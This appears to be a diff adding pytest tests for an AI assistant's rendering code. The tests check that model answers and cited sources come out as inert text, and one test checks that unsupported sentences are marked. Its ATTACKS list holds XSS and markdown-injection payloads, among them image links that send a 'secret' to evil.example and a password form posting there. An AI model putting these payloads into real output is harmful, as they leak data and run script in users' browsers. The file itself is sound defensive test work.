@@ -1,0 +1,66 @@
+"""What a model or a document writes is shown as text: no link, image, script, form or remote address survives."""
+
+from __future__ import annotations
+
+import html
+from dataclasses import replace
+
+import pytest
+
+from assistant.answer import Answer
+from assistant.interfaces.rendering import answer_markdown, plain_markdown, sources_html
+from assistant.reading import Passage
+from assistant.verification import verify
+from tests.doubles import make_document
+
+ATTACKS = [
+    "![x](https://evil.example/?q=secret)",
+    "![x][r]\n\n[r]: https://evil.example/a.png",
+    "<img src=x onerror=alert(1)>",
+    '<img srcset="https://evil.example/a 1x">',
+    "<svg onload=alert(1)><image href=https://evil.example/></svg>",
+    '"><script>alert(1)</script>',
+    "<form action=https://evil.example><input type=password></form>",
+    '<div style="position:fixed;background:url(https://evil.example)">',
+    "[click](javascript:alert(1))",
+    "<https://evil.example>",
+    "https://evil.example/a",
+    "www.evil.example",
+    "mailto:x@evil.example",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "```mermaid\nclick A javascript:alert(1)\n```",
+    "&lt;script&gt;",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_in_markdown_is_live(attack: str) -> None:
+    shown = plain_markdown(f"before {attack} after")
+    assert "<" not in shown
+    assert "](" not in shown
+    assert "]:" not in shown
+    assert "$" not in shown
+    assert "```" not in shown
+    for scheme in ("https:", "http:", "javascript:", "mailto:", "www."):
+        assert scheme not in shown.lower()
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_sources_are_escaped(attack: str) -> None:
+    document = replace(make_document(f"Cost. {attack}"), title=attack, address=attack)
+    passage = Passage(1, document, attack, 0, len(document.text), 1.0)
+    citations = verify("Cost.", [passage], lambda word: 1.0).citations
+    shown = sources_html([passage], citations, "en", searched_as="")
+    for tag in ("<img", "<svg", "<script", "<form", "<input", "<a ", "<div style"):
+        assert tag not in shown
+    assert html.escape(attack) in shown
+
+
+def test_unsupported_sentences_are_marked_in_words_and_supported_ones_cited() -> None:
+    text = "推理服务是最大的一块成本。"
+    passage = Passage(1, make_document(text, language="zh"), "", 0, len(text), 1.0)
+    verified = verify(f"{text}完全没有根据的另一句话。", [passage], lambda word: 1.0)
+    answer = Answer("1", "q", "q", "zh", "answered", "", verified.text, verified.sentences, verified.citations)
+    shown = answer_markdown(answer)
+    assert shown == "推理服务是最大的一块成本。[1]完全没有根据的另一句话。 *〔资料不支持〕*"
+    assert f"<mark>{text}</mark>" in sources_html([passage], verified.citations, "zh")
